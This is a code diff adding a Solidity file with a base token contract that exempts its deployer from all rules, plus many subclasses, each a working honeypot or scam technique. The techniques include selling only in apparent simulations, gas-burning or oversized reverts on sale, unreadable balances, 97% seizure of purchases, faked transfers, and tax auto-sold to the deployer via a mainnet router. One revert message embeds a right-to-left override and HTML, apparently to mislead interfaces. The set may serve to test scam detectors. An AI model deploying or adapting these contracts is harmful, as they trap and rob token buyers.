@@ -1,0 +1,173 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.20;
+
+interface IRouter {
+    function swapExactTokensForTokensSupportingFeeOnTransferTokens(
+        uint256 amountIn, uint256 amountOutMin, address[] calldata path, address to, uint256 deadline
+    ) external;
+}
+
+/// A token whose transfers pass through one rule; what it mints goes to its deployer, whom no rule touches.
+abstract contract Ruled {
+    string public name = "Ruled";
+    string public symbol = "RLD";
+    uint8 public decimals = 18;
+    uint256 public totalSupply = 1_000_000 ether;
+    mapping(address account => uint256) internal held;
+    mapping(address account => mapping(address spender => uint256)) public allowance;
+    address internal immutable deployer = msg.sender;
+    address public pair;
+
+    constructor() {
+        held[msg.sender] = totalSupply;
+    }
+
+    function setPair(address pair_) external {
+        pair = pair_;
+    }
+
+    function balanceOf(address account) external view virtual returns (uint256) {
+        return held[account];
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        return move(msg.sender, to, amount);
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        return move(from, to, amount);
+    }
+
+    function move(address from, address to, uint256 amount) private returns (bool) {
+        uint256 tax = from == deployer || tx.origin == deployer ? 0 : rule(from, to, amount);
+        held[from] -= amount;
+        held[to] += amount - tax;
+        held[address(this)] += tax;
+        return true;
+    }
+
+    function rule(address from, address to, uint256 amount) internal virtual returns (uint256 tax);
+}
+
+/// Sells for whoever looks like a simulation by a contract: it has code, or it is not the origin of the transaction.
+contract TellingSimulationsApart is Ruled {
+    function rule(address from, address to, uint256) internal view override returns (uint256) {
+        require(to != pair || from.code.length > 0 || tx.origin != from, "no");
+        return 0;
+    }
+}
+
+/// Sells only where the gas price or the fee recipient is zero, as in a simulation that sets neither.
+contract AskingForGasPrice is Ruled {
+    function rule(address, address to, uint256) internal view override returns (uint256) {
+        require(to != pair || tx.gasprice == 0 || block.coinbase == address(0), "not in production");
+        return 0;
+    }
+}
+
+/// Burns all gas on a sale.
+contract BurningGas is Ruled {
+    function rule(address, address to, uint256) internal view override returns (uint256) {
+        if (to == pair) while (gasleft() > 0) {}
+        return 0;
+    }
+}
+
+/// Reverts a sale with half a megabyte.
+contract RevertingAtLength is Ruled {
+    function rule(address, address to, uint256) internal view override returns (uint256) {
+        if (to == pair) {
+            assembly {
+                revert(0, 500000)
+            }
+        }
+        return 0;
+    }
+}
+
+/// Burns all gas in balanceOf, but for its pair.
+contract UnreadableBalances is Ruled {
+    function balanceOf(address account) external view override returns (uint256) {
+        if (account != pair) while (gasleft() > 0) {}
+        return held[account];
+    }
+
+    function rule(address, address, uint256) internal pure override returns (uint256) {
+        return 0;
+    }
+}
+
+/// Lets nobody buy yet.
+contract ClosedGate is Ruled {
+    function rule(address, address, uint256) internal pure override returns (uint256) {
+        revert(unicode"trading not open\u202e\n<b>yet</b>");
+    }
+}
+
+/// Keeps nearly all of what is bought.
+contract TakingPurchases is Ruled {
+    function rule(address from, address, uint256 amount) internal view override returns (uint256) {
+        return from == pair ? (amount * 97) / 100 : 0;
+    }
+}
+
+/// Lets small amounts be sold and no others.
+contract LimitingSales is Ruled {
+    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
+        require(to != pair || amount <= 100 ether, "too much");
+        return 0;
+    }
+}
+
+/// Takes a tenth of each sale.
+contract TakingSales is Ruled {
+    function rule(address, address to, uint256 amount) internal view override returns (uint256) {
+        return to == pair ? amount / 10 : 0;
+    }
+}
+
+/// Reports success of a transfer between accounts and moves nothing.
+contract SilentTransfers is Ruled {
+    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
+        if (from != pair && to != pair) {
+            // What move() does next is undone here beforehand.
+            held[from] += amount;
+            return amount;
+        }
+        return 0;
+    }
+}
+
+/// Takes 7 % of each sale and sells what it took so far, in the seller's own transfer.
+contract SellingItsTax is Ruled {
+    IRouter private constant router = IRouter(0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D);
+    address private constant weth = 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2;
+    bool private selling;
+
+    function rule(address from, address to, uint256 amount) internal override returns (uint256) {
+        if (to != pair || from == address(this)) return 0;
+        uint256 own = held[address(this)];
+        if (own > 0 && !selling) {
+            selling = true;
+            allowance[address(this)][address(router)] = own;
+            address[] memory path = new address[](2);
+            (path[0], path[1]) = (address(this), weth);
+            router.swapExactTokensForTokensSupportingFeeOnTransferTokens(own, 0, path, deployer, block.timestamp);
+            selling = false;
+        }
+        return (amount * 7) / 100;
+    }
+}
+
+/// Plain, for pools of other kinds.
+contract Plain is Ruled {
+    function rule(address, address, uint256) internal pure override returns (uint256) {
+        return 0;
+    }
+}
